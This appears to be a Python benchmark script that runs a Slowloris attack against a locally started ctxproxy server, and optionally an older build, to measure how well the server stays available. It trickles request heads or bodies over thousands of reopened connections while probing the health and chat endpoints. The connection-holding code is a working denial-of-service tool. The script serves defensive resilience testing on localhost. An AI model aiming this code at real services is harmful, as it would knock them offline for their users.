"""Slowloris: slow bodies (or half-sent heads) against `ctxproxy serve`, and with --before an
older tree beside it.

Each run starts a server with 4,096 file descriptors (a common default) and its default limits,
then opens `--conns` connections. With `--trickle body` (the default) each sends a whole head
(`Content-Length: 100000`), then one body byte every 5 s; with `--trickle head` each sends a head
a line at a time, never the blank line that ends it. Each connection the server closes is opened
again at once, as an attacker would. Meanwhile /healthz is probed four times a second and an
ordinary chat request once a second, each on a fresh connection.

Run from the repository root: python -m bench.slowloris [--conns 4200] [--seconds 30]
    [--trickle body|head] [--before DIR]
"""

from __future__ import annotations

import argparse
import asyncio
import resource
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

from bench import spawn, tabulate
from bench.overhead import LAUNCH_AS_IS

PORTS = (21300, 21301)  # this tree, --before (the range this bench keeps to)
UPSTREAM_PORT = 21302
NOFILE = 4096
TRICKLE_EVERY_S = 5.0
PROBE_EVERY_S = 0.25
CHAT_EVERY_S = 1.0
PROBE_TIMEOUT_S = 2.0
CHAT = b'{"model": "echo", "messages": [{"role": "user", "content": "hello"}], "max_tokens": 8}'


@dataclass
class Attack:
    opened: int = 0
    refused: int = 0  # connections the server never accepted (or reset at once)
    closed_after: list[float] = field(default_factory=list)  # seconds from open to close
    probes: list[bool] = field(default_factory=list)
    probe_s: list[float] = field(default_factory=list)  # the answered probes' round trips
    chats: list[bool] = field(default_factory=list)
    after_probes: list[bool] = field(default_factory=list)  # right after the attack


def slow_parts(trickle: str) -> tuple[bytes, list[bytes]]:
    """What a slow connection sends at once, then one piece every TRICKLE_EVERY_S."""
    if trickle == "head":
        lines = [b"X-Slow-%d: a\r\n" % i for i in range(100)]
        return b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n", lines
    head = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    )
    return head, [b" "] * 1000


async def hang(port: int, attack: Attack, until: float, trickle: str) -> None:
    """One slow connection, opened again each time the server closes it, until `until`."""
    first, pieces = slow_parts(trickle)
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            attack.refused += 1
            await asyncio.sleep(0.5)
            continue
        attack.opened += 1
        opened = time.monotonic()
        try:
            writer.write(first)
            for piece in pieces:
                try:
                    if await asyncio.wait_for(reader.read(1024), TRICKLE_EVERY_S) == b"":
                        break
                except TimeoutError:
                    pass
                if time.monotonic() > until:
                    return
                writer.write(piece)
            attack.closed_after.append(time.monotonic() - opened)
        except (ConnectionError, OSError):
            attack.closed_after.append(time.monotonic() - opened)
        finally:
            writer.close()


async def ask(port: int, request: bytes) -> bool:
    """`request` on a fresh connection: answered 200 within PROBE_TIMEOUT_S (each step)."""
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port), PROBE_TIMEOUT_S
        )
    except (OSError, TimeoutError):
        return False
    try:
        writer.write(request)
        answer = await asyncio.wait_for(reader.read(), PROBE_TIMEOUT_S)
        return answer.startswith(b"HTTP/1.1 200")
    except (OSError, TimeoutError):
        return False
    finally:
        writer.close()


HEALTHZ = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
CHAT_REQUEST = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
    b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(CHAT), CHAT)
)


async def attack(port: int, conns: int, seconds: float, trickle: str) -> Attack:
    result = Attack()
    until = time.monotonic() + seconds

    async def probes() -> None:
        await asyncio.sleep(2.0)  # the first connections are open
        while time.monotonic() < until:
            sent = time.monotonic()
            result.probes.append(await ask(port, HEALTHZ))
            if result.probes[-1]:
                result.probe_s.append(time.monotonic() - sent)
            await asyncio.sleep(PROBE_EVERY_S)

    async def chats() -> None:
        await asyncio.sleep(2.5)
        while time.monotonic() < until:
            result.chats.append(await ask(port, CHAT_REQUEST))
            await asyncio.sleep(CHAT_EVERY_S)

    watchers = [asyncio.create_task(probes()), asyncio.create_task(chats())]
    tasks: list[asyncio.Task[None]] = []
    for start in range(0, conns, 200):  # open them as fast as the loop lets, in batches
        batch = range(start, min(start + 200, conns))
        tasks += [asyncio.create_task(hang(port, result, until, trickle)) for _ in batch]
        await asyncio.sleep(0.05)
    await asyncio.gather(*watchers)
    await asyncio.gather(*tasks, return_exceptions=True)
    for _ in range(8):
        result.after_probes.append(await ask(port, HEALTHZ))
        await asyncio.sleep(PROBE_EVERY_S)
    return result


def config(workdir: Path, upstream: spawn.Server) -> Path:
    return spawn.ctxproxy_config(workdir, upstream, window=8000)


def run(name: str, argv: list[str], port: int, args: argparse.Namespace, workdir: Path) -> Attack:
    wd = workdir / name
    wd.mkdir(exist_ok=True)
    limited = ["prlimit", f"--nofile={NOFILE}:{NOFILE}", "--", *argv]
    env = {"PYTHONPATH": str(args.before.resolve()) if name == "before" else ""}
    server = spawn.start(name, limited, port, "/healthz", wd, env=env)
    if server.error:
        raise RuntimeError(server.error)
    try:
        return asyncio.run(attack(port, args.conns, args.seconds, args.trickle))
    finally:
        server.stop()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--conns", type=int, default=4200)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--trickle", choices=["body", "head"], default="body")
    parser.add_argument("--before", type=Path, help="an older tree to attack too (as-is)")
    args = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)  # this side holds every connection too
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    workdir = tabulate.workdir("slowloris")
    upstream = spawn.start(
        "upstream",
        [sys.executable, "-m", "bench.stub", "upstream", "--port", str(UPSTREAM_PORT)],
        UPSTREAM_PORT,
        "/v1/models",
        workdir,
        env={"PYTHONPATH": str(tabulate.ROOT.parent)},
    )
    if upstream.error:
        raise RuntimeError(upstream.error)
    try:
        cfg = str(config(workdir, upstream))
        results = {}
        if args.before:
            argv = [sys.executable, "-c", LAUNCH_AS_IS, "serve", "--config", cfg]
            argv += ["--port", str(PORTS[1])]
            results["before"] = run("before", argv, PORTS[1], args, workdir)
        this = [spawn.CTXPROXY, "serve", "--config", cfg, "--port", str(PORTS[0])]
        results["ctxproxy"] = run("ctxproxy", this, PORTS[0], args, workdir)
    finally:
        upstream.stop()
    print(tabulate.machine())
    what = "one body byte" if args.trickle == "body" else "one head line"
    print(f"{args.conns} slow connections ({what} every {TRICKLE_EVERY_S:.0f} s), reopened when")
    print(f"closed, {args.seconds:.0f} s; server with {NOFILE} file descriptors, default limits;")
    print(f"/healthz probed every {PROBE_EVERY_S} s, a chat every {CHAT_EVERY_S} s\n")
    rows = [[figure, *(cell(results[k]) for k in results)] for figure, cell in FIGURES]
    print(tabulate.table(["figure", *results], rows))


def _share(xs: list[bool]) -> str:
    return f"{sum(xs)}/{len(xs)} ({100 * sum(xs) / max(len(xs), 1):.0f}%)"


def _closed(a: Attack) -> str:
    if not a.closed_after:
        return "none"
    return f"{len(a.closed_after)}, median {tabulate.median(a.closed_after):.1f} s"


FIGURES = [
    ("connections opened", lambda a: str(a.opened)),
    ("refused at connect", lambda a: str(a.refused)),
    ("closed by the server", _closed),
    ("longest a closed one hung", lambda a: f"{max(a.closed_after, default=0):.1f} s"),
    ("/healthz during the attack", lambda a: _share(a.probes)),
    ("/healthz answer, median", lambda a: f"{1000 * tabulate.median(a.probe_s):.0f} ms"),
    ("chat during the attack", lambda a: _share(a.chats)),
    ("/healthz right after", lambda a: _share(a.after_probes)),
]


if __name__ == "__main__":
    main()
